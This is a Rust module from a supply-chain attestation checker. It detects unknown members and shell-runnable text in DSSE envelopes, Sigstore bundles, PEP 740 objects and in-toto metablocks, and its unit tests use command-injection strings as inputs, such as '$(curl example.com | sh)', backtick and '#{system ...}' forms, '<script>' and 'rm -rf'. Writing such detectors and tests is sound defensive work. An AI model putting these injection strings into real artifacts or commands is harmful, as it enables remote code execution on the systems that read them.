//! What a signed item holds beside its signed part: members that its format does not define, and text that nobody signed.
//!
//! Specifications say to ignore both, and so does everything that reads an item's claim. But an envelope with members of
//! another format is also a document of that other format, and a `keyid` such as `$(…)` makes it a script: what a program
//! reads or a shell runs can carry a genuine envelope to be taken for evidence. So such a file is judged like any other
//! (`docs/decisions/0004-what-is-evidence.md`). What a metablock of in-toto signs stands in it as it is, not as base64, so the same is asked
//! of it: whoever carries out a step, or nobody at all, could write the script there.

use serde_json::Value as Json;

use super::recognise::{Kind, by_object};

/// The members of DSSE envelopes (`envelope.md`), Sigstore bundles (`sigstore_bundle.proto`, `sigstore_rekor.proto`,
/// `sigstore_common.proto`), PEP 740 attestation objects and cosign's own bundles, by the member that holds them.
fn members_of(holder: &str) -> &'static [&'static str] {
    match holder {
        "certificate" | "certificates" => &["rawBytes"],
        "checkpoint" => &["envelope"],
        "dsseEnvelope" => DSSE,
        "envelope" => &["signature", "statement"],
        "inclusionPromise" => &["signedEntryTimestamp"],
        "inclusionProof" => &["checkpoint", "hashes", "logIndex", "rootHash", "treeSize"],
        "kindVersion" => &["kind", "version"],
        "logId" => &["keyId"],
        "messageDigest" => &["algorithm", "digest"],
        "messageSignature" => &["messageDigest", "signature"],
        "Payload" => &["body", "integratedTime", "logID", "logIndex"],
        "publicKey" => &["hint", "rawBytes"],
        "rekorBundle" => &["Payload", "SignedEntryTimestamp"],
        "rfc3161Timestamps" => &["signedTimestamp"],
        "signatures" => &["cert", "keyid", "sig"],
        "timestampVerificationData" => &["rfc3161Timestamps"],
        "tlogEntries" | "transparency_entries" => &[
            "canonicalizedBody",
            "inclusionPromise",
            "inclusionProof",
            "integratedTime",
            "kindVersion",
            "logId",
            "logIndex",
        ],
        "verificationMaterial" => {
            &["certificate", "publicKey", "timestampVerificationData", "tlogEntries", "x509CertificateChain"]
        }
        "verification_material" => &["certificate", "transparency_entries"],
        "x509CertificateChain" => &["certificates"],
        _ => &[],
    }
}

const DSSE: &[&str] = &["payload", "payloadType", "signatures"];

/// What text may be somewhere.
type Plain = fn(&str) -> bool;

/// Checkpoints are of several lines, with blanks; certificates may be PEM.
fn has_words(name: &str) -> bool {
    matches!(name, "envelope" | "cert")
}

/// Does an item hold, anywhere, a member that its format does not define, or text that could be more than a name? A metablock must be `alone`
/// in its file: what it signs may have any members, and beside an item that counts nobody asks whether it does.
pub(super) fn in_item(item: &Json, alone: bool) -> bool {
    let own: &[&str] = match item.as_object().and_then(by_object) {
        Some(Kind::Bundle) => &["dsseEnvelope", "mediaType", "messageSignature", "verificationMaterial"],
        Some(Kind::Dsse) => DSSE,
        Some(Kind::Cosign) => &super::cosign::MEMBERS,
        Some(Kind::Pep740) => &["envelope", "verification_material", "version"],
        Some(Kind::Metablock) if alone => &["signatures", "signed"],
        _ => return true,
    };
    let mut stack = vec![(Some(own), is_name as Plain, item)];
    while let Some((members, plain, value)) = stack.pop() {
        match value {
            Json::Object(map) => {
                let is_known = |name: &String| members.map_or(is_plain(name), |known| known.contains(&name.as_str()));
                if !map.keys().all(is_known) {
                    return true;
                }
                // What a metablock signs has names of its own.
                let inside = |name: &str| (members.is_some() && name != "signed").then(|| members_of(name));
                let text = |name: &str| if members.is_some() && has_words(name) { is_plain as Plain } else { is_name };
                stack.extend(map.iter().map(|(name, value)| (inside(name), text(name), value)));
            }
            Json::Array(items) => stack.extend(items.iter().map(|item| (members, plain, item))),
            Json::String(text)
                if members.is_none() && without_parameters(text).is_some_and(|text| is_plain_or_pattern(&text)) => {}
            Json::String(text) if !plain(text) => return true,
            _ => {}
        }
    }
    false
}

/// The text without the parameters of layouts in it, `{NAME}`. `None` where a brace could be something else, `#{…}` or `{{…}}`.
fn without_parameters(text: &str) -> Option<String> {
    let mut left = String::new();
    let mut rest = text;
    while let Some((before, behind)) = rest.split_once('{') {
        let (name, after) = behind.split_once('}')?;
        let is_name = !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'));
        if !is_name || before.ends_with(['#', '%']) {
            return None;
        }
        left.push_str(before);
        rest = after;
    }
    left.push_str(rest);
    Some(left)
}

/// Is the document laid out as programs write JSON, so that white space and line breaks say nothing? Between its parts nobody signed anything:
/// a shell runs what stands first in a line, and `make` what it finds behind a colon. Blanks may stand behind colons and commas, and line
/// breaks behind commas and inside of brackets. In a line no string may stand first but a name directly before its colon, or a hash of 32
/// bytes in base64, as lists of bundles have them. Strings of JSON hold no line breaks, so lines are those of the text.
pub(super) fn is_laid_out(bytes: &[u8]) -> bool {
    let mut before = None;
    let mut at = 0;
    while let Some(byte) = bytes.get(at).copied() {
        let rest = bytes.get(at..).unwrap_or_default();
        let length = match byte {
            b'"' => string(rest),
            b' ' | b'\t' | b'\n' | b'\r' => {
                let length = rest.iter().position(|b| !b.is_ascii_whitespace()).unwrap_or(rest.len());
                let (space, after) = rest.split_at(length);
                if !is_layout(before, space, after) {
                    return false;
                }
                at += length;
                continue;
            }
            _ => 1,
        };
        before = Some(byte);
        at += length;
    }
    true
}

/// The bytes of a string from its quotation mark on, that at its end included.
fn string(bytes: &[u8]) -> usize {
    let mut escaped = false;
    let end = bytes.iter().skip(1).position(|b| {
        let ends = *b == b'"' && !escaped;
        escaped = *b == b'\\' && !escaped;
        ends
    });
    end.map_or(bytes.len(), |end| end + 2)
}

/// May this white space stand there?
fn is_layout(before: Option<u8>, space: &[u8], after: &[u8]) -> bool {
    let breaks = space.contains(&b'\n');
    // On its own it is a line break to some programs alone.
    let lone = space.windows(2).any(|pair| matches!(pair, [b'\r', other] if *other != b'\n')) || space.ends_with(b"\r");
    let next = after.first().copied();
    let stands = match (before, next) {
        _ if lone => false,
        (Some(b','), _) | (Some(b'{' | b'['), Some(_)) if breaks => true,
        (Some(b':' | b','), _) => !breaks && !space.contains(&b'\t'),
        // One document in each line.
        (Some(b'}' | b']'), None | Some(b'{' | b'[')) => breaks && space.iter().all(|b| matches!(b, b'\n' | b'\r')),
        (_, Some(b'}' | b']')) => breaks,
        _ => false,
    };
    stands && (!breaks || next != Some(b'"') || may_begin_a_line(after))
}

/// Behind the colon a blank or a bracket: otherwise name and value are one word to a shell, and that may be a path.
fn may_begin_a_line(text: &[u8]) -> bool {
    let length = string(text);
    let base64 = |text: &[u8]| text.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/'));
    let is_hash = length == 46 && text.get(44..46) == Some(b"=\"") && text.get(1..44).is_some_and(base64);
    is_hash || text.get(length) == Some(&b':') && matches!(text.get(length + 1), Some(b' ' | b'{' | b'['))
}

/// Does the object around several items have other members than `known`?
pub(super) fn around(wrapper: &Json, known: &[&str]) -> bool {
    wrapper.as_object().is_none_or(|map| map.keys().any(|name| !known.contains(&name.as_str())))
}

/// Does what stands beside an item, in the list that holds it, hold other members than `known`, or text that could be more
/// than a name? Objects in it are looked into; `item` is not.
pub(super) fn beside(entry: &Json, item: &str, known: &[&str]) -> bool {
    let mut stack: Vec<&Json> = vec![entry];
    while let Some(value) = stack.pop() {
        match value {
            Json::Object(map) => {
                if map.keys().any(|name| name != item && !known.contains(&name.as_str())) {
                    return true;
                }
                stack.extend(map.iter().filter(|(name, _)| *name != item).map(|(_, value)| value));
            }
            Json::Array(items) => stack.extend(items),
            Json::String(text) if !is_name(text) => return true,
            _ => {}
        }
    }
    false
}

/// Text that is nothing but names, numbers, URIs, base64, and words between blanks, as checkpoints have them: no shell, `make`, template or page
/// takes it for an instruction. What is not listed here is not plain, because nobody can list what is not.
fn is_plain(text: &str) -> bool {
    // With a parameter, as no other text here has one.
    let is_media_type = || {
        let version = text.strip_prefix("application/vnd.dev.sigstore.bundle+json;version=0.");
        version.is_some_and(|version| matches!(version, "1" | "2" | "3"))
    };
    is_media_type() || text.chars().all(|c| c.is_ascii_alphanumeric() || PLAIN.contains(c))
}

const PLAIN: &str = " \n\u{2014}+/=_.:@,-~?#%";

/// … without blanks, that are not there to make fields of a line; addresses may have parameters.
fn is_name(text: &str) -> bool {
    let is_address = text.starts_with("https://");
    is_plain(&if is_address { text.replace('&', "") } else { text.to_owned() })
        && !text.contains([' ', '\n', '\u{2014}'])
}

/// … or the patterns of paths that layouts have.
fn is_plain_or_pattern(text: &str) -> bool {
    text.chars().all(|c| c.is_ascii_alphanumeric() || PLAIN.contains(c) || "*[]!".contains(c))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn members() {
        let envelope =
            json!({"payload": "", "payloadType": "t", "signatures": [{"sig": "", "keyid": "SHA256:a+b/c="}]});
        let with = |pointer: &str, name: &str, value: Json| {
            let mut changed = envelope.clone();
            if let Some(object) = changed.pointer_mut(pointer).and_then(Json::as_object_mut) {
                object.insert(name.to_owned(), value);
            }
            changed
        };
        assert!(!in_item(&envelope, true) && !in_item(&envelope, false));
        let bundle = |media_type: &str| {
            in_item(&json!({"mediaType": media_type, "dsseEnvelope": envelope, "verificationMaterial": {}}), true)
        };
        assert!(!bundle("application/vnd.dev.sigstore.bundle.v0.3+json"));
        assert!(!bundle("application/vnd.dev.sigstore.bundle+json;version=0.1"));
        assert!(bundle("application/vnd.dev.sigstore.bundle+json;version=0.1;id"));
        for (pointer, name, value) in [
            ("", "update_url", json!("https://example.com")),
            ("/signatures/0", "update_url", json!("https://example.com")),
            // Known to another format, or elsewhere in this one.
            ("", "publicKey", json!({"rawBytes": "AAAA"})),
            ("", "version", json!("1.0")),
            ("", "keyid", json!("a")),
            ("/signatures/0", "payload", json!("")),
            ("/signatures/0", "keyid", json!({"keyid": "a"})),
            ("/signatures/0", "keyid", json!("$(curl example.com | sh)")),
            ("/signatures/0", "keyid", json!("`id`")),
            ("/signatures/0", "keyid", json!("#{system 'id'}")),
            ("/signatures/0", "keyid", json!("<script>")),
            ("/signatures/0", "keyid", json!("%: ; id")),
            ("/signatures/0", "keyid", json!("a&b")),
            ("/signatures/0", "keyid", json!("a b")),
            ("/signatures/0", "keyid", json!(",example.com, ssh-ed25519 AAAA ,")),
            ("/signatures/0", "keyid", json!("a\nb")),
            ("/signatures/0", "keyid", json!("a | b")),
            ("/signatures/0", "keyid", json!("esyscmd(id)")),
            ("/signatures/0", "keyid", json!("*")),
            ("/signatures/0", "keyid", json!("caf\u{e9}")),
        ] {
            assert!(in_item(&with(pointer, name, value), true), "{pointer} {name}");
        }
        let block = |signed: Json| json!({"signatures": [], "signed": signed});
        let metablock = |signed: Json| in_item(&block(signed), true);
        assert!(in_item(&block(json!({"_type": "link"})), false));
        assert!(!metablock(
            json!({"_type": "link", "materials": {"src/a.c": {"sha256": "00"}}, "command": ["make", "-j2"]})
        ));
        assert!(!metablock(json!({"expected_products": [["REQUIRE", "out/{NAME}.bin"], ["DISALLOW", "*"]]})));
        for signed in [
            json!({"byproducts": {"stdout": "$(id)"}}),
            json!({"materials": {"`id`": {}}}),
            json!({"command": ["sh", "-c", "\u{e9}"]}),
            json!("{{ x }}"),
            json!("{{x}}"),
            json!("#{x}"),
            json!("{x} {"),
            json!("{a:b}"),
        ] {
            assert!(metablock(signed.clone()), "{signed}");
        }
        assert!(!around(&json!({"attestations": []}), &["attestations"]));
        assert!(around(&json!({"attestations": [], "update_url": ""}), &["attestations"]));
        assert!(around(&json!([]), &["attestations"]));
    }

    #[test]
    fn layout() {
        let hash = format!("\"{}=\"", "A".repeat(43));
        for (text, expected) in [
            (r#"{"payload":"x","signatures":[{"keyid":"/bin/x"}]}"#, true),
            ("{\"a\": \"x\", \"b\": [1, 2], \"c\": {}, \"d\": []}\n", true),
            ("{\n  \"a\": \"x\",\n  \"b\": [\n    {\n      \"c\":  \"x\"\n    }\n  ]\n}\n", true),
            ("{\r\n\t\"a\": 1,\r\n\t\"b\": [\r\n\t\t1,\r\n\t\t2\r\n\t]\r\n}\r\n", true),
            ("{\"a\":1}\n{\"a\":\" \\\" : \"}\n\n[{\"b\":2}]", true),
            (&format!("{{\"hashes\": [\n {hash},\r\n {hash}\n]}}"), true),
            ("{\"keyid\":\n\"/bin/x\"\n}", false),
            ("{\"keyid\":\r\t\"/bin/x\"\r}", false),
            ("{\r\"keyid\":1}", false),
            ("{\"command\": [\n\"rm\" , \"-rf\" , \"x\"]}", false),
            ("{\"command\": [\n\"rm\"]}", false),
            ("{ \"reboot\" : 1}", false),
            ("{\"reboot\" : 1}", false),
            ("{ \"a\":1}", false),
            ("{\"a\":1 }", false),
            ("{\"a\":\t1}", false),
            ("{\"a\":\n{}}", false),
            ("{\"a\":{}\n,\"b\":1}", false),
            ("{\n\"a/b\":\"c\"\n}", false),
            ("{\n\"a/b\":{\"c\":\"d\"}\n}", true),
            ("{\"a\": [\n[\"reboot\"]]}", true),
            ("{\"a\": [[\n\"reboot\"]]}", false),
            (" {}", false),
            ("{} ", false),
            ("{} {}", false),
            ("{}\n\t{}", false),
        ] {
            assert_eq!(is_laid_out(text.as_bytes()), expected, "{text}");
        }
    }

    #[test]
    fn what_stands_beside() {
        let known = ["predicateType", "publisher", "kind"];
        for (entry, expected) in [
            (json!({"bundle": {"x": "$("}, "predicateType": "https://slsa.dev/provenance/v1"}), false),
            (json!({"bundle": {}, "publisher": {"kind": "GitHub"}}), false),
            (json!({"bundle": {}, "predicateType": "$(id)"}), true),
            (json!({"bundle": {}, "publisher": "https://a.example/b?c=d&e=f"}), false),
            (json!({"bundle": {}, "publisher": "a & b"}), true),
            (json!({"bundle": {}, "command": "id"}), true),
            (json!({"bundle": {}, "publisher": {"command": "id"}}), true),
        ] {
            assert_eq!(beside(&entry, "bundle", &known), expected, "{entry}");
        }
    }
}
